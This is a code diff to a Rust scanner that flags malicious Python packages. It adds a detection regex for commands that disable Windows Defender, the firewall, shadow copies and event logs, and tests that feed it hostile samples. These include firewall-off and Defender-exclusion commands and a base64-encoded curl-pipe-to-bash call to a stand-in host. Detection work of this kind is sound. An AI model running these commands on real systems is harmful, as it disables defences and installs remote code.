@@ -78,6 +78,26 @@ static SHELL_TRICK_COMMAND: LazyLock<Regex> = crate::static_regex!(
     "
 );
 
+/// Commands that switch off or blind the machine's defences: Defender exclusions and
+/// real-time protection, the firewall, shadow copies and event logs. Administrators do this by
+/// hand or by policy; a Python package has no reason to.
+static DEFENSE_EVASION: LazyLock<Regex> = crate::static_regex!(
+    r"(?ix)
+    \badd-mppreference\b.*-exclusion(path|process|extension|ipaddress)
+    | \bset-mppreference\b.*-disable\w*\s+(\$?true|1)\b
+    | \bnetsh(\.exe)?\s+(advfirewall|firewall)\s+set\b.*\bstate\s+off\b
+    | \bvssadmin(\.exe)?\s+delete\s+shadows\b | \bwbadmin(\.exe)?\s+delete\s+catalog\b
+    | \bbcdedit(\.exe)?\b.*\brecoveryenabled\s+no\b | \bwevtutil(\.exe)?\s+cl\b
+    | \bdisableantispyware\b | \bdisablerealtimemonitoring\b
+    | \b(sc|net)(\.exe)?\s+stop\s+windefend\b | \btaskkill\b.*\bmsmpeng\b
+    "
+);
+
+/// True when a command line switches off or blinds the machine's defences.
+pub fn disables_defenses(command: &str) -> bool {
+    DEFENSE_EVASION.is_match(command)
+}
+
 /// A network tool fed with the output of reconnaissance commands: `curl -H "Hostname:
 /// $(hostname)" -d "$(ls -la)" https://...` reports the machine to its author.
 static RECON_SUBSTITUTION: LazyLock<Regex> = crate::static_regex!(
@@ -203,7 +223,24 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
     let shown = super::argument_text(checker, call);
     checker.note_program(command.as_ref().or(partial.as_ref()).unwrap_or(&shown));
     check_hidden_window(checker, call, qualname, context);
+    let evasion = command
+        .as_ref()
+        .or(partial.as_ref())
+        .filter(|text| disables_defenses(text));
     let (severity, tags, message) = match (&command, &partial) {
+        _ if let Some(text) = evasion => (
+            // Only malware needs the antivirus or the firewall out of its way.
+            match context {
+                ExecContext::Install | ExecContext::Import => 0.92,
+                ExecContext::Runtime => 0.8,
+                ExecContext::TestOrDocs => 0.2,
+            },
+            vec!["spawn", "defense-evasion"],
+            format!(
+                "{qualname} runs `{}`, which disables or blinds the machine's defences",
+                crate::text::shorten(text, 160)
+            ),
+        ),
         (None, Some(partial)) if is_dangerous_command(partial) || is_shell_trick(partial) => (
             match context {
                 ExecContext::Install | ExecContext::Import => {
@@ -292,10 +329,16 @@ fn check_hidden_command(
     let Some(decoder) = super::dynamic_exec::contains_decoding(checker, arg) else {
         return;
     };
-    let severity = match context {
-        ExecContext::Install | ExecContext::Import => 0.6,
-        ExecContext::Runtime => 0.35,
-        ExecContext::TestOrDocs => 0.1,
+    // Installers spell out their `curl … | sh`; one decoded from base64 first is hidden from
+    // the very reviewer who would object to it, whoever calls the function.
+    let payload = is_dangerous_command(command) || fetches_and_marks_executable(command);
+    let severity = match (context, payload) {
+        (ExecContext::Install | ExecContext::Import, true) => 0.9,
+        (ExecContext::Install | ExecContext::Import, false) => 0.6,
+        (ExecContext::Runtime, true) => 0.75,
+        (ExecContext::Runtime, false) => 0.35,
+        (ExecContext::TestOrDocs, true) => 0.2,
+        (ExecContext::TestOrDocs, false) => 0.1,
     };
     checker.report(
         &RULE,
@@ -451,6 +494,17 @@ mod tests {
     use crate::rules::testing::max_severity;
 
     #[test]
+    fn switching_defences_off_is_malicious_in_any_context() {
+        let code = "import subprocess\ndef prepare(path):\n    subprocess.run(f'powershell -Command Add-MpPreference -ExclusionPath \"{path}\"', shell=True)\n";
+        assert!(max_severity("p/p/core.py", code, "WH120") >= 0.8);
+        let firewall =
+            "import os\ndef go():\n    os.system('netsh advfirewall set allprofiles state off')\n";
+        assert!(max_severity("p/p/core.py", firewall, "WH120") >= 0.8);
+        let query = "import subprocess\ndef status():\n    subprocess.run(['powershell', '-Command', 'Get-MpPreference'])\n";
+        assert!(max_severity("p/p/core.py", query, "WH120") < 0.3);
+    }
+
+    #[test]
     fn dropper_commands_are_severe() {
         assert!(is_dangerous_command("curl -s http://x.invalid/a.sh | bash"));
         assert!(is_dangerous_command("powershell -w hidden -c iwr http://x"));
@@ -548,6 +602,15 @@ mod tests {
         assert!(max_severity("p/setup.py", code, "WH120") >= 0.6);
         let plain = "import os\nos.system('type nul > x.txt')\n";
         assert!(max_severity("p/setup.py", plain, "WH120") < 0.2);
+    }
+
+    #[test]
+    fn a_download_and_run_decoded_by_a_helper_is_malicious_when_called() {
+        // base64 of "curl https://x.example/i.sh | bash", decoded by the package's own helper.
+        let code = "import base64, subprocess\ndef unpack(s):\n    raw = base64.b64decode(s)\n    return raw.decode()\ndef run():\n    cmd = [unpack('Y3VybCBodHRwczovL3guZXhhbXBsZS9pLnNoIHwgYmFzaA==')]\n    subprocess.Popen(cmd)\n";
+        assert!(max_severity("p/p/core.py", code, "WH120") >= 0.75);
+        let plain = "import subprocess\ndef run():\n    subprocess.Popen(['curl https://x.example/i.sh | bash'])\n";
+        assert!(max_severity("p/p/core.py", plain, "WH120") < 0.7);
     }
 
     #[test]
